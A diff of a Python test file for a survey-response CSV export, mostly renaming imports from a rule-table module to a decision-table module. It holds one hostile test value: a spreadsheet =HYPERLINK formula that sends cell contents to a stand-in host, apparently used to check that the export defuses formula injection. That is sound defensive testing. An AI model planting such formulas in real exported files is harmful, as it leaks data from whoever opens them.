@@ -7,11 +7,11 @@ from pathlib import Path
 import pytest
 from embedded import START, Embedded, journey, score
 
-from workers import ruletable
+from workers import decision_table
+from workers.decision_table.trials.past_files import read_responses
 from workers.exporting import COLUMNS, export_responses
 from workers.records import SurveyRequest
-from workers.ruletable.records import read_responses
-from workers.spreadsheets import FORMULA_STARTS
+from workers.text.spreadsheets import FORMULA_STARTS
 
 HOSTILE = '=HYPERLINK("https://evil.example?"&A1;"open")\nand more; "quoted", été'
 
@@ -67,7 +67,7 @@ def test_the_file_can_be_backtested(boucle: Embedded, tmp_path: Path) -> None:
     """The export is what `boucle rules backtest --responses` reads: the table's inputs, id, customer, received_at."""
     path = tmp_path / "r.csv"
     export_responses(boucle.store, path, boucle.clock.at, "ana")
-    table = ruletable.load(boucle.parts.data.folder("rules/follow-up"))
+    table = decision_table.load(boucle.parts.data.folder("rules/follow-up"))
     past = read_responses(table, path.read_bytes())
     assert [one.inputs["score"] for one in past] == [2, 9]
     assert past[0].received_at == START
